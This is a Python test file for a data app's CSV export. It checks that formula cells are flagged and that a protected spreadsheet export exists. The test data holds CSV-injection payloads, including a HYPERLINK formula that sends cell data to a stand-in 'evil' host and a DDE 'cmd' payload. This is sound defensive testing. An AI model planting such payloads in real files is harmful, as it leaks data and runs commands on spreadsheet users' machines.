"""The plain CSV export says how many cells a spreadsheet would run as formulas, with the
protected export to use instead (session 15 security review: ``=HYPERLINK("http://evil/"&A1)``
and ``+cmd|' /C calc'!A0`` were written raw without a word, and the guide sent spreadsheet
users to the plain File → Export CSV…). Real widgets (offscreen), a real satellite."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from core.model import Action, Cmd
from core.satellite.satellite import Satellite
from core.schema import Project
from desktop import headless
from desktop.mainwindow import MainWindow
from tests.desktop.test_csv_app import finish

SITE = "field.site"
EVIL = ['=HYPERLINK("http://evil/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)"]


def test_plain_export_warns_of_formula_cells_and_names_the_protected_one(
        qtbot: Any, tmp_path: Path, project: Project, capsys: Any) -> None:
    sat = Satellite(tmp_path / "sat", project)
    try:
        sat.pub([Action(SITE, f"s{i}", Cmd.NEW, {"name": v, "lat": -1.5})
                 for i, v in enumerate(EVIL)]
                + [Action(SITE, "=k", Cmd.NEW, {"name": "ok", "notes": "-2+3"})])
        d = str(tmp_path / "sat")
        sat.close()
        assert headless.main(["export", "--data", d, SITE]) == 0
        cap = capsys.readouterr()
        assert '=HYPERLINK(""http://evil/""&A1)' in cap.out  # written as it is
        # 3 names, the key "=k" and the notes "-2+3"; -1.5 is a number, not a formula
        assert "5 cells a spreadsheet would run as formulas" in cap.err, cap.err
        assert "--for-spreadsheet" in cap.err
        assert headless.main(["export", "--data", d, SITE, "--for-spreadsheet"]) == 0
        cap = capsys.readouterr()
        assert "formula" not in cap.err and "'=HYPERLINK" in cap.out
        sat = Satellite(tmp_path / "sat", project)
        w = MainWindow(sat, None, "t")
        qtbot.addWidget(w)
        qtbot.waitUntil(lambda: w.records.rowCount() == 4)
        ok, _title, text = finish(qtbot, w, w.export_csv(str(tmp_path / "out.csv")))
        assert ok and "Warning: 5 cells a spreadsheet would run as formulas" in text, text
        assert "Export CSV for a spreadsheet" in text
        ok, _title, text = finish(qtbot, w, w.export_csv(str(tmp_path / "out2.csv"),
                                                         sheet=True))
        assert ok and "Warning" not in text
        w.close()
    finally:
        sat.close()


def test_the_guide_sends_spreadsheet_users_to_the_protected_export() -> None:
    guide = (Path(__file__).resolve().parents[2] / "docs" / "guide.md").read_text()
    row = next(ln for ln in guide.splitlines() if ln.startswith("| move data to or from a "
                                                                 "spreadsheet"))
    assert "Export CSV for a spreadsheet" in row.split("|")[2].split("(")[0], row
